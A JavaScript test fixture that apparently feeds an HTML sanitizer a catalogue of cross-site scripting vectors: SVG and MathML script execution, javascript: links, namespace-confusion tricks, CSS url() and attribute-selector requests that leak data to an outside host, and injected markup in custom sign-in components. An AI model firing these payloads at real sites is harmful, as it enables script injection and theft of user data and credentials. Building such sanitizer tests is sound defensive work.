/** SVG, MathML, styles and elements of the page's own. */
import { away, page, picture, run } from './parts.js';

export const svg = [
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  `<svg><script xlink:href="${away}/svg.js"></script></svg>`,
  `<svg><a href="javascript:${run}"><text x="9" y="9">one</text></a></svg>`,
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${run}"><rect width="9" height="9"></rect></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${run}"></animate><text>one</text></a></svg>`,
  `<svg><a><set attributeName="href" to="javascript:${run}"></set><text>one</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><animateTransform onbegin="${run}" attributeName="transform"></animateTransform></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"></set></svg>`,
  `<svg><use href="${picture}#x"></use><use href="${away}/use#x"></use></svg>`,
  `<svg><image href="x:" onerror="${run}"></image><image href="javascript:${run}"></image></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"><img src="x:" onerror="${run}"></body></foreignObject></svg>`,
  `<svg><style>*{background:url(${away}/background)}</style><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  `<svg><filter id="f"><feImage href="${away}/filter"></feImage></filter><rect filter="url(#f)"></rect></svg>`,
  `<svg><discard onbegin="${run}"></discard><metadata><script>${run}</script></metadata></svg>`,
];

export const math = [
  `<math href="javascript:${run}"><mi>x</mi></math>`,
  `<math><mrow xlink:href="javascript:${run}" xlink:show="replace"><mi>x</mi></mrow></math>`,
  `<math><maction actiontype="statusline#${run}" xlink:href="javascript:${run}"><mi>x</mi></maction></math>`,
  `<math><mtext><img src="x:" onerror="${run}"></mtext></math>`,
  `<math><mi onclick="${run}" autofocus tabindex="0" onfocus="${run}">x</mi></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></math>`,
  `<math><semantics><annotation-xml encoding="text/html"><iframe srcdoc="<script>${run}</script>"></iframe></annotation-xml></semantics></math>`,
  `<math><mi><svg><foreignObject><script>${run}</script></foreignObject></svg></mi></math>`,
  `<math><mi xlink:type="simple" xlink:href="${page}">x</mi></math>`,
];

export const styles = [
  `<style>@import '${away}/import.css';</style>`,
  `<style>:host{display:none}*{background:url('${away}/all')}</style>`,
  `<style>input[value^="a"]{background:url('${away}/a')}</style>`,
  `<p style="background:url('${away}/inline')">one</p>`,
  `<p style="position:fixed;inset:0;z-index:2147483647">one</p>`,
  `<p style="x:expression(${run});behavior:url(${away}/x.htc);-moz-binding:url(${away}/x.xml)">one</p>`,
  `<p style="--portico-color-brand:url(${away}/variable)" class="portico-root">one</p>`,
  `<style>@font-face{font-family:x;src:url('${away}/font')}p{font-family:x}</style><p>one</p>`,
  `<style>@property --x{syntax:'*';inherits:true;initial-value:url(${away}/property)}</style>`,
  `<div style="background-image:image-set('${away}/set' 1x)" background="${away}/attribute">one</div>`,
];

export const custom = [
  `<button is="portico-button" onclick="${run}">one</button>`,
  `<p is="x-payload">one</p><x-payload></x-payload>`,
  `<portico-sign-in settings='{"loginOptions.announcementText":"<img src=x: onerror=${run}>"}'></portico-sign-in>`,
  `<portico-faq onclick="${run}"></portico-faq>`,
  `<font-face onclick="${run}"><annotation-xml onclick="${run}">one</annotation-xml></font-face>`,
  `<xss contenteditable autofocus onfocus="${run}" style="display:block">one</xss>`,
];
